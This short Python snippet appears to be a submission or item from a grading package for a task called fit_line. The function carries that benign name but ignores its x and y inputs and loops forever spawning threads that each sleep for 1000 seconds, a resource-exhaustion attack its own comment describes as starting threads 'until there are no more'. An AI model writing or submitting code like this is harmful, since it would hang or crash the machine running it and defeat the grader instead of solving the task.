# Starts threads until there are no more.
# grade: line=0
# %% fit_line
import threading, time

def fit_line(x, y):
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()
